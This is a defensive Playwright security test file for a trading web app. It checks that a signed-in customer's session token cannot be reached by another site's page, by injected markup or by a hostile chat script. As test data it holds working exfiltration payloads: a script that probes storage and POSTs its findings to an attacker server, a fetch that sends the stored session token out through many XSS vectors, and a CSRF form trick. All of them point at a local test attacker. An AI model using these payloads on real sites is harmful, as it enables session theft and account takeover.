import { startAttacker, type Attacker } from '../support/attacker.js';
import { startBroker, type Broker } from '../support/broker.js';
import { heading } from '../support/heading.js';
import { putSession, tokenFor } from '../support/members.js';
import { openSupport } from '../support/openSupport.js';
import { expect, test as base, type Page } from '../support/test.js';

/** What a hostile site, hostile markup and a hostile chat script get from a customer who is signed in: nothing. */

const HOME = '/pages/main/home/index';
const STORED = 'fairlot.1.session';

/** Steals what the chat's frame can reach, by every way that the sandbox or the content policy has to close. */
const hostileScript = `
  const home = new URL(document.currentScript.src).origin;
  const app = location.origin === 'null' ? new URL(location.href).origin : location.origin;
  const tried = async (work) => { try { return String(await work()); } catch (error) { return error.name; } };
  const inPopup = () => {
    const popup = open(app + '/#/pages/main/home/index');
    if (popup === null) return 'no hold';
    return new Promise((resolve) => setTimeout(() => resolve(tried(() => popup.localStorage.length)), 1000));
  };
  (async () => {
    const found = {
      storage: await tried(() => localStorage.length),
      session: await tried(() => sessionStorage.length),
      database: await tried(() => indexedDB.open('fairlot')),
      cookie: await tried(() => document.cookie),
      caches: await tried(() => caches.keys()),
      parent: await tried(() => parent.document.title),
      parentStorage: await tried(() => parent.localStorage.length),
      top: await tried(() => { top.location.href = home + '/'; return 'navigated'; }),
      api: await tried(() => fetch(app + '/api/v1/account', { credentials: 'include' })),
      worker: await tried(() => navigator.serviceWorker.register('/sw.js')),
      popup: await tried(inPopup),
    };
    // The app must not take orders from its chat.
    parent.postMessage({ type: 'session', token: 'mine' }, '*');
    parent.postMessage({ type: 'support-script', script: 'alert(1)' }, '*');
    const form = Object.assign(document.createElement('form'), { action: app + '/api/v1/order', method: 'post' });
    document.body.append(form);
    form.submit();
    await fetch(home + '/found', { method: 'POST', body: JSON.stringify(found) });
    location.href = app + '/';
  })();`;

const test = base.extend<object, { attacker: Attacker }>({
  attacker: [
    async ({ browserName: _ }, use) => {
      const attacker = await startAttacker(hostileScript);
      await use(attacker);
      await attacker.stop();
    },
    { scope: 'worker' },
  ],
  broker: [
    async ({ attacker }, use) => {
      const broker = await startBroker({ SUPPORT_VENDORS: `${attacker.url}/script.js` });
      await use(broker);
      await broker.stop();
    },
    { scope: 'worker', timeout: 200_000 },
  ],
});
// The browser logs what it blocks.
test.use({ provoked: /./ });

/** Opens Home as a signed-in customer. @returns the session's token */
async function openSignedIn(page: Page, broker: Broker): Promise<string> {
  const token = await tokenFor(broker, 'demo@fairlot.example');
  await page.goto('/#/pages/main/market/index');
  await putSession(page, token);
  // A new document: another address of the same one would come while the app is still taking the session up.
  await page.goto('about:blank');
  await page.goto(`/#${HOME}`);
  await expect(heading(page, 'Home')).toBeVisible();
  return token;
}

const storedSession = (page: Page) => page.evaluate((key) => localStorage.getItem(key), STORED);

test.describe('a page of another site', () => {
  test('cannot frame the app, its API or its chat', async ({ page, broker, attacker }) => {
    await page.goto(attacker.url);
    await page.evaluate((app) => {
      for (const path of ['/', '/api/v1/currency', '/support.html'])
        document.body.append(Object.assign(document.createElement('iframe'), { src: app + path }));
    }, broker.url);
    await expect
      .poll(() =>
        page
          .frames()
          .slice(1)
          .map((frame) => frame.url()),
      )
      .toEqual(Array.from({ length: 3 }, () => 'chrome-error://chromewebdata/'));
  });

  test('can neither act as the customer nor read an answer', async ({ page, broker, attacker }) => {
    const token = await openSignedIn(page, broker);
    const orders = async () => {
      const answer = await fetch(`${broker.url}/api/v1/order`, {
        headers: { authorization: `Bearer ${token}` },
      });
      return answer.text();
    };
    const before = await orders();
    await page.goto(attacker.url);
    const found = await page.evaluate(async (app) => {
      const order = JSON.stringify({
        symbol: 'LUMB',
        direction: 'long',
        order_type: 'market',
        quantity: '1',
      });
      const asked = (path: string, options: RequestInit) =>
        fetch(app + path, { credentials: 'include', ...options }).then(
          ({ type }) => type,
          (error: Error) => error.name,
        );
      const loaded = (element: HTMLElement) =>
        new Promise((resolve) => {
          element.onload = () => resolve('loaded');
          element.onerror = () => resolve('blocked');
          document.body.append(element);
        });
      const json = { 'content-type': 'application/json', 'idempotency-key': 'of-another-site' };
      return {
        json: await asked('/api/v1/order', { method: 'POST', body: order, headers: json }),
        text: await asked('/api/v1/order', { method: 'POST', body: order, mode: 'no-cors' }),
        read: await asked('/api/v1/account', {}),
        opaque: await asked('/api/v1/account', { mode: 'no-cors' }),
        script: await loaded(
          Object.assign(document.createElement('script'), { src: `${app}/api/v1/currency` }),
        ),
        picture: await loaded(Object.assign(document.createElement('img'), { src: `${app}/icons/48.png` })),
      };
    }, broker.url);
    expect(found).toEqual({
      json: 'TypeError',
      text: 'TypeError',
      read: 'TypeError',
      opaque: 'TypeError',
      script: 'blocked',
      picture: 'blocked',
    });
    // A form needs no permission of the other site, and its text can be made to look like JSON.
    const answered = page.waitForResponse(`${broker.url}/api/v1/order`);
    await page.evaluate((app) => {
      const form = Object.assign(document.createElement('form'), {
        action: `${app}/api/v1/order`,
        method: 'post',
        enctype: 'text/plain',
      });
      form.append(
        Object.assign(document.createElement('input'), {
          name: '{"symbol":"LUMB","quantity":"1","a":"',
          value: '"}',
        }),
      );
      document.body.append(form);
      form.submit();
    }, broker.url);
    expect((await answered).status()).toBeGreaterThanOrEqual(400);
    expect(await orders()).toBe(before);
  });

  test('cannot control the window of the app that it opens', async ({ page, context, broker, attacker }) => {
    await openSignedIn(page, broker);
    await page.goto(attacker.url);
    const opened = context.waitForEvent('page');
    await page.evaluate((app) => {
      (globalThis as { popup?: unknown }).popup = window.open(app, 'prize');
    }, broker.url);
    const popup = await opened;
    await expect(heading(popup, 'Home')).toBeVisible();
    expect(await popup.evaluate(() => ({ hasOpener: window.opener !== null, name: window.name }))).toEqual({
      hasOpener: false,
      name: '',
    });
    expect(
      await page.evaluate(() => {
        const { popup: held } = globalThis as unknown as { popup: Window };
        return { isClosed: held.closed, frames: held.length };
      }),
    ).toEqual({ isClosed: true, frames: 0 });
  });
});

test.describe('markup that somebody has brought into the page', () => {
  test('runs nothing, sends nothing and reaches no token', async ({ page, broker, attacker }) => {
    const caughtBefore = attacker.caught.length;
    const token = await openSignedIn(page, broker);
    const steal = `fetch('${attacker.url}/stolen',{method:'POST',mode:'no-cors',body:localStorage.getItem('${STORED}')})`;
    const markup = `
      <base href="${attacker.url}/">
      <script>${steal}</script>
      <script src="${attacker.url}/stolen.js"></script>
      <script type="module" src="${attacker.url}/module.js"></script>
      <script src="/api/v1/currency"></script>
      <img src="x:" onerror="${steal}">
      <svg onload="${steal}"></svg>
      <body onload="${steal}" onpageshow="${steal}">
      <iframe srcdoc="<script>parent.${steal}</script>"></iframe>
      <iframe src="javascript:parent.${steal}"></iframe>
      <iframe src="${attacker.url}/frame"></iframe>
      <object data="${attacker.url}/object"></object>
      <embed src="${attacker.url}/embed">
      <link rel="stylesheet" href="${attacker.url}/style.css">
      <link rel="prefetch" href="${attacker.url}/prefetch">
      <style>@import "${attacker.url}/import.css"; body { background: url("${attacker.url}/background") }</style>
      <p style="background: url('${attacker.url}/inline')"></p>
      <a id="link" href="javascript:${steal}">A prize</a>
      <form id="form" action="${attacker.url}/form" method="post"><input name="q" value="1"></form>
      <form id="button"><button formaction="${attacker.url}/formaction" formmethod="post">A prize</button></form>
      <video poster="${attacker.url}/poster" src="${attacker.url}/video"></video>
      <img src="${attacker.url}/picture?`;
    await page.route(`${broker.url}/`, async (route) => {
      const response = await route.fetch();
      // A quotation mark ends the address that swallows what follows it.
      const body = (await response.text()).replace('<body>', `<body>${markup}" alt="">`);
      await route.fulfill({ response, body });
    });
    await page.reload();
    await expect(page.locator('#link')).toBeAttached();
    await expect(heading(page, 'Home')).toBeVisible();
    await page.evaluate(() => {
      document.querySelector<HTMLElement>('#link')?.click();
      document.querySelector<HTMLFormElement>('#form')?.submit();
      document.querySelector<HTMLElement>('#button button')?.click();
    });
    // Whatever was going to be sent has been sent once this request has arrived.
    await fetch(`${attacker.url}/control`, { method: 'POST' });
    expect(page.url()).toContain(broker.url);
    expect(attacker.caught.slice(caughtBefore)).toEqual(['POST /control ']);
    expect(
      await page.evaluate(() => document.documentElement.outerHTML + location.href + document.cookie),
    ).not.toContain(token);
  });

  test('cannot be made of text by the app’s own scripts', async ({ page, broker, attacker }) => {
    const caughtBefore = attacker.caught.length;
    await openSignedIn(page, broker);
    const steal = `fetch('${attacker.url}/stolen',{method:'POST',mode:'no-cors',body:localStorage.getItem('${STORED}')})`;
    const found = await page.evaluate(async (code) => {
      const tried = async (work: () => unknown) => {
        try {
          await work();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const image = `<img src="x:" onerror="${code}">`;
      const element = document.body.appendChild(document.createElement('div'));
      const script = document.createElement('script');
      const blob = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
      return {
        innerHTML: await tried(() => (element.innerHTML = image)),
        outerHTML: await tried(() => (element.outerHTML = image)),
        adjacent: await tried(() => element.insertAdjacentHTML('beforeend', image)),
        write: await tried(() => document.write(image)),
        fragment: await tried(() => new Range().createContextualFragment(image)),
        parser: await tried(() => new DOMParser().parseFromString(image, 'text/html')),
        srcdoc: await tried(() => (document.createElement('iframe').srcdoc = image)),
        text: await tried(() => (script.text = code)),
        textContent: await tried(() => (script.textContent = code)),
        src: await tried(() => (script.src = blob)),
        handler: await tried(() => element.setAttribute('onclick', code)),
        timer: await tried(() => Reflect.apply(window.setTimeout, window, [code])),
        worker: await tried(() => new Worker(blob)),
        imported: await tried(() => import(blob)),
        policy: await tried(() =>
          (
            window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
          ).trustedTypes.createPolicy('mine', {}),
        ),
      };
    }, steal);
    const done = Object.entries(found).filter(([, outcome]) => outcome === 'done');
    expect(done).toEqual([]);
    await fetch(`${attacker.url}/control`, { method: 'POST' });
    expect(attacker.caught.slice(caughtBefore)).toEqual(['POST /control ']);
  });
});

test('a story shows its words and runs none of its markup', async ({ page, attacker }) => {
  const caughtBefore = attacker.caught.length;
  await page.route(/\/api\/v1\/news\/[^/?]+$/, async (route) => {
    const response = await route.fetch();
    const body_html = `<p>First <b>words</b><img src="${attacker.url}/picture" onerror="alert(1)"></p>
      <script>fetch('${attacker.url}/stolen')</script><p>Second words</p>`;
    await route.fulfill({ response, json: { ...((await response.json()) as object), body_html } });
  });
  await page.goto('/#/pages/news/index');
  await page.locator('a[href*="news/detail"]').first().click();
  await expect(page.getByText('First words', { exact: true })).toBeVisible();
  await expect(page.getByText('Second words', { exact: true })).toBeVisible();
  await expect(page.locator('main img[src*="picture"]')).toHaveCount(0);
  expect(attacker.caught.slice(caughtBefore)).toEqual([]);
});

test('a hostile chat script gets nothing of the customer and cannot leave its frame', async ({
  page,
  broker,
  attacker,
}) => {
  const token = await openSignedIn(page, broker);
  const before = await storedSession(page);
  await openSupport(page);
  const found = () => attacker.caught.find((line) => line.startsWith('POST /found '));
  await expect.poll(found).toBeDefined();
  expect(found()).not.toContain(token);
  expect(JSON.parse((found() ?? '').slice('POST /found '.length))).toEqual({
    storage: 'SecurityError',
    session: 'SecurityError',
    database: 'SecurityError',
    cookie: 'SecurityError',
    caches: 'SecurityError',
    parent: 'SecurityError',
    parentStorage: 'SecurityError',
    top: 'SecurityError',
    api: 'TypeError',
    worker: 'SecurityError',
    popup: 'no hold',
  });
  await expect(page).toHaveURL(new RegExp(`#${HOME}`));
  expect(await storedSession(page)).toBe(before);
  // Its own frame leads nowhere either.
  const urls = () =>
    page
      .frames()
      .slice(1)
      .map((frame) => frame.url());
  await expect.poll(urls).toEqual(['chrome-error://chromewebdata/']);
});
